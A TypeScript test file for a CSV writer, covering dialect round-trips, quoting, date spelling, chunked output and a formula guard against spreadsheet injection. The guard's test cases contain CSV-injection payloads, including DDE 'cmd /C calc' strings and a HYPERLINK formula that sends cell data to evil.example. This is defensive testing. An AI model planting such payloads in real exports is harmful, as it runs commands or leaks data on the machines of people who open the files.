/** What is written is read back as it was, in the dialect of the original, and no spreadsheet runs it. */

import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import { writeDate, type DateForm } from '#core/dateForm.ts';
import { withGuards, withoutGuards } from '#core/anonymization/guards.ts';
import { dateWriter, longestDate } from '#core/dateBytes.ts';
import { unguarded } from '#core/formulaGuard.ts';
import { cellText, type Column, type History } from '#core/history.ts';
import type { Dialect } from '#core/model.ts';
import { writeCsv } from '#core/writeCsv.ts';
import { historyOf, quickHistoryOf, textColumn } from '#test/core/history.ts';
import { arbitraryRows } from './anonymization/arbitraryRows.ts';
import { bytesOf, textOf } from './anonymization/bytes.ts';

const dialects: readonly Dialect[] = [
  { delimiter: ',', newline: '\n', quoting: 'needed' },
  { delimiter: ',', newline: '\n', quoting: 'all' },
  { delimiter: ';', newline: '\r\n', quoting: 'needed' },
  { delimiter: '\t', newline: '\r\n', quoting: 'all' },
  { delimiter: '|', newline: '\n', quoting: 'needed' },
];

const table = (history: History): string[][] =>
  Array.from({ length: history.rows }, (_, row) => history.columns.map((column) => cellText(column, row)));

it('is read back by papaparse as it was, in every dialect', () => {
  fc.assert(
    fc.property(arbitraryRows, fc.constantFrom(...dialects), fc.boolean(), (rows, dialect, formulaGuard) => {
      const history = { ...historyOf(rows), dialect };
      const read = Papa.parse<string[]>(textOf(history, { formulaGuard }), {
        delimiter: dialect.delimiter,
        newline: dialect.newline,
      });
      expect(read.errors).toEqual([]);
      const [header, ...body] = read.data.slice(0, -1);
      expect(header).toEqual(history.columns.map(({ name }) => name));
      expect(body.map((cells) => cells.map(formulaGuard ? unguarded : String))).toEqual(table(history));
    }),
  );
});

it('writes any text that UTF-8 can hold', () => {
  const anything = fc.string({ unit: 'grapheme' });
  fc.assert(
    fc.property(fc.array(anything, { minLength: 1, maxLength: 8 }), fc.constantFrom(...dialects), (cells, dialect) => {
      const column = textColumn('Title', 'title', cells);
      const history = { ...quickHistoryOf(cells.map((cell) => [cell, '2024-05-01'])), dialect };
      const read = Papa.parse<string[]>(
        textOf({ ...history, columns: [column, ...history.columns.slice(1)] }, { formulaGuard: false }),
        {
          delimiter: dialect.delimiter,
          newline: dialect.newline,
        },
      );
      expect(read.data.slice(1, -1).map(([cell]) => cell)).toEqual(cells);
    }),
  );
});

describe('the formula guard', () => {
  const cases: readonly (readonly [role: 'title' | 'duration' | 'bookmark' | 'device', cell: string, written: string])[] = [
    ['title', '=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['title', '+1', "'+1"],
    ['title', '-5', "'-5"],
    ['title', '@home', "'@home"],
    ['title', '\tTabbed', "'\tTabbed"],
    ['title', '\rReturned', `"'\rReturned"`],
    ['title', '\0null', "'\0null"],
    ['title', "=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['title', "@SUM(1+9)*cmd|'/C calc'!A0", "'@SUM(1+9)*cmd|'/C calc'!A0"],
    ['title', "-2+3+cmd|'/C calc'!A0", "'-2+3+cmd|'/C calc'!A0"],
    ['title', '=DDE("cmd";"/C calc";"x")', `"'=DDE(""cmd"";""/C calc"";""x"")"`],
    ['title', '=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
    ['title', '＝1+1', "'＝1+1"],
    ['title', '＋1', "'＋1"],
    ['title', '－1', "'－1"],
    ['title', '＠SUM(A1)', "'＠SUM(A1)"],
    ['title', '9-1-1', '9-1-1'],
    ['title', "'Quoted", "'Quoted"],
    // So that the quote that was there is not taken for the guard.
    ['title', "'+1 Guest", "''+1 Guest"],
    ['duration', "'-3", "''-3"],
    ['device', '=cmd|x', "'=cmd|x"],
    ['duration', '-00:01:00', '-00:01:00'],
    ['duration', '-3', '-3'],
    ['duration', '-3+cmd', "'-3+cmd"],
    ['bookmark', '00:45:00', '00:45:00'],
  ];
  it.each(cases)('writes %s %j as %j', (role, cell, written) => {
    const history = {
      ...historyOf([{ start: '2024-05-01 20:00' }]),
      columns: [textColumn('First', 'other', ['x']), textColumn('Cell', role, [cell])],
    };
    expect(textOf(history)).toBe(`First,Cell\nx,${written}\n`);
    expect(textOf(history, { formulaGuard: false })).toContain(cell.replaceAll('"', '""'));
    const { history: copy, guardedCells } = withGuards(history, { formulaGuard: true });
    expect(guardedCells).toEqual([0, written === cell ? 0 : 1]);
    expect(cellText(withoutGuards(copy.columns[1]!), 0)).toBe(cell);
  });

  it('guards a header', () => {
    const history = { ...historyOf([{ start: '2024-05-01 20:00' }]), columns: [textColumn('=1', 'other', ['x'])] };
    expect(textOf(history)).toBe("'=1\nx\n");
  });
});

it.each([
  ['a,b', '"a,b"'],
  ['a"b', '"a""b"'],
  ['a\nb', '"a\nb"'],
  ['a\rb', '"a\rb"'],
  [' a;b ', ' a;b '],
  ['', ''],
])('quotes %j only where it must', (cell, written) => {
  const history = { ...historyOf([{ start: '' }]), columns: [textColumn('A', 'title', [cell]), textColumn('B', 'other', ['x'])] };
  expect(textOf(history)).toBe(`A,B\n${written},x\n`);
});

it('writes a row whose only cell is empty', () => {
  const history = { ...historyOf([{ start: '' }]), columns: [textColumn('Title', 'title', [''])] };
  expect(textOf(history)).toBe('Title\n""\n');
});

it('quotes dates that hold the delimiter, and writes odd cells as they stood', () => {
  const form: DateForm = { order: 'dmy', pattern: 'D, M; YYYY' };
  const column: Column = {
    kind: 'instant',
    name: 'Date',
    role: 'start',
    seconds: Float64Array.of(86_400, Number.NaN, 0),
    precision: 'day',
    form,
    exceptions: new Map([[2, '1 Jan "70"']]),
  };
  const history = {
    ...historyOf([{ start: '' }, { start: '' }, { start: '' }]),
    columns: [textColumn('T', 'title', ['a', 'b', 'c']), column],
  };
  expect(textOf(history)).toBe('T,Date\na,"2, 1; 1970"\nb,\nc,"1 Jan ""70"""\n');
});

it('writes chunks of about a megabyte, none of which changes afterwards', () => {
  const cell = 'x'.repeat(3_000_000);
  const history = {
    ...historyOf(Array.from({ length: 3 }, () => ({ start: '' }))),
    columns: [textColumn('A', 'title', ['a', cell, 'b'])],
  };
  const chunks = [...writeCsv(history)];
  expect(Buffer.concat(chunks).toString()).toBe(`A\na\n${cell}\nb\n`);
  expect(bytesOf(history).length).toBe(3_000_007);
});

it('spells dates as writeDate does', () => {
  const patterns = ['M/D/YY', 'DD.MM.YYYY', 'YY. M. D.', 'YYYY-MM-DD HH:mm:ss', 'YYYY年MM月DD日', 'D M YYYYMM'];
  const seconds = fc.oneof(
    fc.integer({ min: -70_000_000_000, max: 300_000_000_000 }),
    fc.integer({ min: 0, max: 2_000_000_000 }),
  );
  fc.assert(
    fc.property(fc.constantFrom(...patterns), fc.array(seconds, { minLength: 1, maxLength: 5 }), (pattern, list) => {
      const form: DateForm = { order: 'ymd', pattern };
      const write = dateWriter(form);
      const target = new Uint8Array(longestDate(form) + 3);
      for (const value of list) {
        const end = write(value, target, 3);
        expect(new TextDecoder().decode(target.subarray(3, end))).toBe(writeDate(value, form));
      }
    }),
  );
});
